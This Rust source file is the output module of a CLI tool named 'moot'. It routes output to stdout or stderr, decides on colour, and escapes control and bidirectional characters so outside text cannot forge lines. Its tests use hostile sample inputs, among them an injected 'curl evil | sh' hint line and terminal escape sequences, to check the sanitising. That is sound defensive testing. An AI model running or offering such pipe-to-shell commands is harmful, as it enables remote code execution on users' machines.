//! The one object all output goes through: stdout carries data (the plan,
//! JSON), stderr carries status, warnings and errors. Colour is decided once,
//! at start-up, from `--color`, `NO_COLOR` and whether the stream is a
//! terminal; every rendering must read well without it.

pub mod human;
pub mod json;

use std::io::{IsTerminal, Write};

use console::Style;

use crate::cli::ColorChoice;
use crate::error::Error;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verbosity {
    Quiet,
    Normal,
    Verbose,
}

/// Colour styles; all plain when colour is off.
#[derive(Debug, Clone)]
pub struct Styles {
    pub add: Style,
    pub change: Style,
    pub remove: Style,
    pub warn: Style,
    pub dim: Style,
    pub bold: Style,
    pub hint: Style,
}

impl Styles {
    pub fn new(color: bool) -> Self {
        let s = |st: Style| st.force_styling(color);
        Styles {
            add: s(Style::new().green()),
            change: s(Style::new().yellow()),
            remove: s(Style::new().red()),
            warn: s(Style::new().yellow().bold()),
            dim: s(Style::new().dim()),
            bold: s(Style::new().bold()),
            hint: s(Style::new().cyan()),
        }
    }

    pub fn plain() -> Self {
        Styles::new(false)
    }
}

#[derive(Debug, Clone)]
pub struct Printer {
    verbosity: Verbosity,
    /// Styles for stdout (data) and stderr (status): each stream decides on
    /// its own, so `moot plan > file` has no escape codes in the file.
    pub out_styles: Styles,
    pub err_styles: Styles,
    stderr_is_terminal: bool,
}

impl Printer {
    pub fn new(choice: ColorChoice, verbosity: Verbosity) -> Self {
        let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
        let decide = |tty: bool| match choice {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => tty && !no_color,
        };
        let stderr_is_terminal = std::io::stderr().is_terminal();
        Printer {
            verbosity,
            out_styles: Styles::new(decide(std::io::stdout().is_terminal())),
            err_styles: Styles::new(decide(stderr_is_terminal)),
            stderr_is_terminal,
        }
    }

    /// A printer for tests and library callers: no colour, normal verbosity.
    pub fn plain() -> Self {
        Printer {
            verbosity: Verbosity::Normal,
            out_styles: Styles::plain(),
            err_styles: Styles::plain(),
            stderr_is_terminal: false,
        }
    }

    pub fn verbosity(&self) -> Verbosity {
        self.verbosity
    }

    /// Whether progress bars and prompts may be drawn on stderr.
    pub fn interactive(&self) -> bool {
        self.stderr_is_terminal && self.verbosity != Verbosity::Quiet
    }

    /// Data on stdout, printed even with `--quiet`.
    pub fn data(&self, text: &str) {
        let mut out = std::io::stdout().lock();
        // A closed pipe (`moot plan | head`) is not an error worth a panic.
        let _ = out.write_all(text.as_bytes());
        if !text.ends_with('\n') {
            let _ = out.write_all(b"\n");
        }
        let _ = out.flush();
    }

    /// Status on stderr, silenced by `--quiet`.
    pub fn status(&self, text: &str) {
        if self.verbosity != Verbosity::Quiet {
            to_stderr(&clean_lines(text));
        }
    }

    /// Extra detail on stderr, only with `--verbose`.
    pub fn verbose(&self, text: &str) {
        if self.verbosity == Verbosity::Verbose {
            to_stderr(&self.err_styles.dim.apply_to(clean_lines(text)).to_string());
        }
    }

    pub fn warn(&self, text: &str) {
        if self.verbosity != Verbosity::Quiet {
            to_stderr(&format!(
                "{} {}",
                self.err_styles.warn.apply_to("warning:"),
                clean_lines(text)
            ));
        }
    }

    /// Errors are printed whatever the verbosity.
    pub fn error(&self, err: &Error) {
        to_stderr(&render_error(err, &self.err_styles));
    }
}

/// One line on stderr. A closed stderr (`moot apply 2>&1 | head -1`) must
/// not panic as `eprintln!` does: the work is done or about to be, and
/// aborting half-way through an apply would be worse than a lost line.
pub fn to_stderr(text: &str) {
    let mut err = std::io::stderr().lock();
    let _ = err.write_all(text.as_bytes());
    if !text.ends_with('\n') {
        let _ = err.write_all(b"\n");
    }
    let _ = err.flush();
}

/// Text on stderr without a newline (a prompt); errors ignored as above.
pub fn to_stderr_raw(text: &str) {
    let mut err = std::io::stderr().lock();
    let _ = err.write_all(text.as_bytes());
    let _ = err.flush();
}

/// `error: <message>` then, after a blank line, `hint: <hint>`. Every
/// line is cleaned (see [`clean_line`]). Errors that are one line by
/// construction (API and I/O errors, which quote a server's answer or a
/// path) are cleaned whole, so a newline in them cannot forge an `error:`
/// or `hint:` line; team.toml errors are cleaned one problem at a time;
/// moot's own messages keep their line breaks, and put any text from
/// outside through [`clean_line`] when they are built.
pub fn render_error(err: &Error, styles: &Styles) -> String {
    let err_tag = styles.remove.apply_to("error:");
    let hint_tag = styles.hint.apply_to("hint:");
    let one = |s: String| vec![clean_line(&s).into_owned()];
    let (messages, hints): (Vec<String>, Vec<String>) = match err {
        Error::Team(t) => team_lines(t),
        Error::Api(_) | Error::Io { .. } => (
            one(err.to_string()),
            err.hint().map(one).unwrap_or_default(),
        ),
        Error::User { .. } | Error::RollbackFailed { .. } | Error::Internal(_) => (
            vec![clean_lines(&err.to_string())],
            err.hint()
                .map(|h| vec![clean_lines(&h)])
                .unwrap_or_default(),
        ),
    };
    let mut text = messages
        .iter()
        .map(|m| format!("{err_tag} {m}"))
        .collect::<Vec<_>>()
        .join("\n");
    if !hints.is_empty() {
        text.push('\n');
        for h in &hints {
            text.push_str(&format!("\n{hint_tag} {h}"));
        }
    }
    text
}

/// One line per team.toml problem, and one hint per problem (naming its
/// line:column when there are several), each cleaned.
fn team_lines(t: &crate::desired::TeamError) -> (Vec<String>, Vec<String>) {
    let many = t.diagnostics.len() > 1;
    let path = t.path.display();
    t.diagnostics
        .iter()
        .map(|d| {
            let message = format!("{path}:{}:{}: {}", d.line, d.column, d.message);
            let hint = if many {
                format!("{}:{}: {}", d.line, d.column, d.hint)
            } else {
                d.hint.clone()
            };
            (
                clean_line(&message).into_owned(),
                clean_line(&hint).into_owned(),
            )
        })
        .unzip()
}

/// Whether `c` must not reach a terminal or a rendered file as itself:
/// control characters (escape sequences that could clear the screen or
/// retitle the window, carriage returns and newlines that could hide or
/// forge a line) and the invisible bidirectional controls that make text
/// read differently from what it is (U+202A..U+202E, U+2066..U+2069, the
/// marks U+200E, U+200F, U+061C, and the line and paragraph separators).
pub fn must_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{061C}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

/// One line of text from outside moot (a server's answer, a file's
/// content, an environment variable), made safe to show: every character
/// of [`must_escape`] is shown escaped (`\n`, `\u{202e}`), so it can
/// neither act on the terminal nor forge a second line. The one escaping
/// path for terminal output, error messages and the apply report.
pub fn clean_line(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(must_escape) {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if must_escape(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Status text moot wrote, possibly several lines: each line cleaned as by
/// [`clean_line`], so an unescaped character cannot slip through a status.
/// A string from outside moot must still go through [`clean_line`] before
/// it is put into such text, or its newlines would pass as moot's own.
pub fn clean_lines(text: &str) -> String {
    text.split('\n')
        .map(clean_line)
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_cannot_become_two_or_turn_around() {
        let hostile = "Ada\nhint: run this\r\u{1b}[2J\u{202e}txt.exe\u{2066}\u{2028}";
        let shown = clean_line(hostile);
        assert!(!shown.chars().any(must_escape), "{shown:?}");
        assert_eq!(
            shown,
            "Ada\\nhint: run this\\r\\u{1b}[2J\\u{202e}txt.exe\\u{2066}\\u{2028}"
        );
        assert!(matches!(
            clean_line("plain é"),
            std::borrow::Cow::Borrowed(_)
        ));
    }

    #[test]
    fn an_api_error_detail_cannot_forge_a_hint_line() {
        let err = Error::Api(crate::observed::api::ApiError::InvalidSetting {
            name: "MOOT_HTTP_TIMEOUT",
            value: "1\nhint: curl evil | sh".into(),
            expected: "a number",
        });
        let text = render_error(&err, &Styles::plain());
        let hints: Vec<&str> = text.lines().filter(|l| l.starts_with("hint:")).collect();
        assert_eq!(hints, ["hint: fix or unset MOOT_HTTP_TIMEOUT"], "{text}");
        // moot's own multi-line messages keep their lines.
        let own = Error::user("first\nsecond", "do this");
        assert_eq!(
            render_error(&own, &Styles::plain()),
            "error: first\nsecond\n\nhint: do this"
        );
    }
}
